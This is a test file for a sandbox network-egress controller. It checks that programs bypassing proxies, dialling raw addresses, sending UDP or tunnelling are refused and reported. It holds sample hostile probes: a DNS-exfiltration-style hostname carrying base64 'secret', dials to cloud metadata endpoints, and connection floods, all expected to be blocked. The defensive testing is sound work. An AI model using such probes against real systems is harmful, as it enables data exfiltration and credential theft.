import { limits, type StepOutcome } from '@clawhold/spec';
import { verifies } from '@clawhold/testkit';
import { expect, test, vi } from 'vitest';
import { type Scene, startScene } from '../testing/scene.ts';

vi.setConfig({ testTimeout: 60_000 });

/** Dials without a proxy, says `ping`, prints what comes back or why nothing did. */
const dial = (host: string, port: number): string =>
  `node -e 's = net.connect(${port}, "${host}", () => s.write("ping")); s.on("error", (e) => console.log(e.code)).on("data", (d) => console.log(String(d)))'`;

/** Asks without a proxy, as a program does that knows none. */
const fetchDirectly = (url: string, method = 'GET'): string =>
  `NODE_USE_ENV_PROXY=0 node -e 'fetch("${url}", { method: "${method}" }).then(async (a) => console.log(a.status, a.headers.get("x-clawhold-decision"), await a.text()), (e) => console.log(e.cause.code))'`;

const outputOf = (outcome: StepOutcome): string => (outcome.kind === 'done' ? outcome.output.trim() : outcome.kind);

async function run(scene: Scene, command: string): Promise<string> {
  return outputOf((await scene.call('shell.exec', { command })).outcome);
}

const tried = (scene: Scene): readonly string[] =>
  scene.plane.timeline.flatMap((body) =>
    body.kind === 'egress' ? [`${body.method} ${body.url} ${body.decision}`] : [],
  );

test(
  verifies('egress.capture', 'in a sandbox: a program that ignores proxies is decided on as one that does not'),
  async () => {
    const scene = await startScene();
    await scene.open();
    expect(await run(scene, dial('raw.local', 25))).toBe('pong');
    expect(await run(scene, dial('raw.local', 26))).toBe('ECONNRESET');
    expect(await run(scene, fetchDirectly('http://finance.local/accounts'))).toBe('201 allowed {"id":7}');
    expect(await run(scene, fetchDirectly('http://finance.local/other'))).toMatch(/^403 denied /);
    expect(scene.received).toEqual(['GET /accounts']);
    expect(scene.tunnels()).toBe(1);
    await vi.waitFor(() =>
      expect(tried(scene)).toEqual([
        'TCP raw.local:25 allow',
        'TCP raw.local:26 deny',
        'GET http://finance.local/accounts allow',
        'GET http://finance.local/other deny',
      ]),
    );
  },
);

test(
  verifies('egress.policy-names', 'in a sandbox: a name that the policy does not know does not exist, and is told of'),
  async () => {
    const scene = await startScene();
    await scene.open();
    const secret = 'c2VjcmV0.exfiltrated.example';
    expect(await run(scene, dial(secret, 443))).toBe('ENOTFOUND');
    expect(await run(scene, dial(secret, 443))).toBe('ENOTFOUND');
    expect(await run(scene, dial('metadata.google.internal', 80))).toBe('ENOTFOUND');
    await vi.waitFor(() =>
      expect(tried(scene)).toEqual([`DNS ${secret.toLowerCase()} deny`, 'DNS metadata.google.internal deny']),
    );
  },
);

test(
  verifies('egress.policy-names', 'in a sandbox: an address keeps its meaning when the policy changes'),
  async () => {
    const scene = await startScene();
    await scene.open();
    const look = `node -e 'require("dns").lookup("raw.local", (e, a) => console.log(e?.code ?? a))'`;
    const address = await run(scene, look);
    expect(address).toMatch(/^198\.19\./);
    expect(await run(scene, dial(address, 25))).toBe('pong');
    await scene.ask('publishPolicy', {
      ceiling:
        'version: 1\nname: ceiling\nservices: { raw.local: { socket: raw.sock }, new.local: { socket: raw.sock } }\n',
      agents: {
        worker: 'version: 1\nname: worker\nnetwork_policies: { n: { endpoints: [{ host: new.local, port: 25 }] } }\n',
      },
    });
    expect(await run(scene, look)).toBe('ENOTFOUND');
    expect(await run(scene, dial('new.local', 25))).toBe('pong');
    // Held from before: it still means raw.local, which is not allowed any more.
    expect(await run(scene, dial(address, 25))).toBe('ECONNRESET');
    expect(scene.tunnels()).toBe(2);
  },
);

test(
  verifies(
    'egress.capture',
    'in a sandbox: addresses that stand for nothing, real ones, and the listener itself lead nowhere',
  ),
  async () => {
    const scene = await startScene();
    await scene.open();
    for (const address of ['198.19.0.1', '198.19.77.7', '198.18.0.2', '93.184.216.34', '10.0.0.1']) {
      const port = address === '198.18.0.2' ? 1 : 25;
      expect(await run(scene, dial(address, port))).toBe('ECONNRESET');
    }
    for (const address of ['127.0.0.1', '198.18.0.3']) expect(await run(scene, dial(address, 25))).toBe('ECONNREFUSED');
    // Neither is it a proxy, nor does the proxy know these addresses.
    await run(scene, dial('raw.local', 25));
    const connect = (port: number, host: string, target: string): string =>
      `node -e 's = net.connect(${port}, "${host}"); s.on("error", (e) => console.log(e.code)).on("data", (d) => console.log(String(d).split("\\r")[0])); s.write("CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n")'`;
    expect(await run(scene, connect(1, '198.18.0.2', 'raw.local:25'))).toBe('ECONNRESET');
    expect(await run(scene, connect(3128, '127.0.0.1', '198.19.0.1:25'))).toMatch(/^HTTP\/1.1 403/);
    expect(await run(scene, connect(80, 'finance.local', 'raw.local:25'))).toMatch(/^HTTP\/1.1 400/);
    expect(scene.tunnels()).toBe(1);
  },
);

test(
  verifies(
    'egress.raw-addresses',
    'in a sandbox: an address that was dialled without a name is refused, and a finding, each once and not without end',
  ),
  async () => {
    const scene = await startScene();
    await scene.open();
    const findings = (): readonly unknown[] =>
      scene.plane.events.flatMap(({ type, body }) => (type === 'finding.raised' ? [body['text']] : []));
    for (let time = 0; time < 3; time++) expect(await run(scene, dial('93.184.216.34', 443))).toBe('ECONNRESET');
    expect(await run(scene, dial('169.254.169.254', 80))).toBe('ECONNRESET');
    await vi.waitFor(() => expect(findings()).toHaveLength(2), { timeout: 60_000 });
    expect(findings()).toEqual([
      'A program dialled 93.184.216.34:443, which the policy gave no name; it was refused.',
      'A program dialled 169.254.169.254:80, which the policy gave no name; it was refused.',
    ]);
    expect(scene.plane.events.filter(({ type }) => type === 'finding.raised')[0]?.body['kind']).toBe(
      'egress.raw_address',
    );
    expect(tried(scene)).toEqual(['TCP 93.184.216.34:443 deny', 'TCP 169.254.169.254:80 deny']);
    const flood = `node -e 'for (let n = 0; n < 200; n++) net.connect(443, "203.0.113." + n).on("error", () => {})'`;
    await run(scene, flood);
    await vi.waitFor(() => expect(findings().at(-1)).toContain('further addresses'), { timeout: 60_000 });
    expect(findings()).toHaveLength(limits.refusedAddressesShown + 1);
    // What it had been given a name for goes on as ever.
    expect(await run(scene, dial('raw.local', 25))).toBe('pong');
  },
);

test(
  verifies(
    'egress.raw-datagrams',
    'in a sandbox: a datagram without a name is refused at once, and a finding, each once and not without end',
  ),
  async () => {
    const scene = await startScene();
    await scene.open();
    const findings = (): readonly unknown[] =>
      scene.plane.events.flatMap(({ type, body }) => (type === 'finding.raised' ? [body['text']] : []));
    const send = (address: string, port: number): string =>
      `node -e 's = require("dgram").createSocket("udp4"); s.connect(${port}, "${address}", () => s.send("ping")); s.on("error", (e) => { console.log(e.code); s.close() })'`;
    for (let time = 0; time < 3; time++) expect(await run(scene, send('93.184.216.34', 443))).toBe('ECONNREFUSED');
    expect(await run(scene, send('93.184.216.34', 123))).toBe('ECONNREFUSED');
    // Among themselves programs may talk.
    expect(await run(scene, send('127.0.0.1', 9_999))).toBe('ECONNREFUSED');
    await vi.waitFor(() => expect(findings()).toHaveLength(2), { timeout: 60_000 });
    expect(findings()).toEqual([
      'A program sent a datagram to 93.184.216.34:443, which the policy gave no name; it was refused.',
      'A program sent a datagram to 93.184.216.34:123, which the policy gave no name; it was refused.',
    ]);
    expect(tried(scene)).toEqual(['UDP 93.184.216.34:443 deny', 'UDP 93.184.216.34:123 deny']);
    const flood = `node -e 's = require("dgram").createSocket("udp4"); let n = 0; (function next() { n < 2000 ? s.send("x", 443, "203.0." + (n >> 8) + "." + (n++ & 255), next) : s.close() })()'`;
    await run(scene, flood);
    await vi.waitFor(() => expect(findings().at(-1)).toContain('further addresses'), { timeout: 60_000 });
    expect(findings()).toHaveLength(limits.refusedAddressesShown + 1);
    expect(await run(scene, dial('raw.local', 25))).toBe('pong');
  },
);
